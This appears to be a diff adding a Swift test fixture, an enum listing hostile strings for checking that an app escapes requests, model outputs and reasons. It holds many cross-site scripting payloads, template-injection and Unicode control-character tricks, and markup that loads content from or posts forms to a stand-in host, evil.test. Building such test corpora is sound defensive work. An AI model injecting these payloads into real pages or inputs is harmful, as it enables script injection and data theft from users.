@@ -1,0 +1,31 @@
+/// What somebody who can write a request, a model's output or a reason might write.
+enum HostileTexts {
+    static let all: [String] = [
+        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//evil.test></sCrIpT>",
+        "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "</svg><img src=x onerror=alert(1)>",
+        "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert(1)>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "javascript:alert(1)", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>",
+        "'><script>alert(1)</script>", "\"/><img src=x onerror=alert(1)>", "x\" style=\"background:url(//evil.test)",
+        "<style>*{background:url(//evil.test)}</style>", "<link rel=stylesheet href=//evil.test/x.css>",
+        "<meta http-equiv=refresh content=\"0;url=//evil.test\">", "<base href=//evil.test/>",
+        "<object data=//evil.test></object>", "<embed src=//evil.test>",
+        "<form action=//evil.test><input name=x></form>",
+        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<details open ontoggle=alert(1)>",
+        "<video><source onerror=alert(1)></video>", "<template><script>alert(1)</script></template>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->",
+        "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY e \"x\">]>&e;",
+        "<?xml version=\"1.0\"?><x/>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
+        "&unknown; &",
+        "</p></td></tr></table><script>alert(1)</script>", "\u{0}<script>\u{0}", "\u{1B}[31mred\u{7}\u{8}\u{9B}0m",
+        "\u{202E}tpircs\u{202C} \u{2066}x\u{2069}", "<\u{200B}script>alert(1)", "\u{FEFF}<script>",
+        "\u{FFFE}\u{FFFF}<x>",
+        "\u{2028}<script>\u{2029}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "%3Cscript%3Ealert(1)",
+        "a | b || c \\| d", "`code` ``x`` ```", "[x](javascript:alert(1)) ![x](https://evil.test/x.png)",
+        "# one\n## two\n\n| a |\n|---|\n- item\n> quote",
+        "@everyone #1 GH-1 www.evil.test https://evil.test a@evil.test",
+        "**bold** __x__ ~~y~~ *z* _w_ $x^2$ :smile:", "- [ ] 1. + x\n---\n===", "\r\n\r\n<script>\r\n",
+        "<<<>>>&&&\"\"\"'''",
+    ]
+}
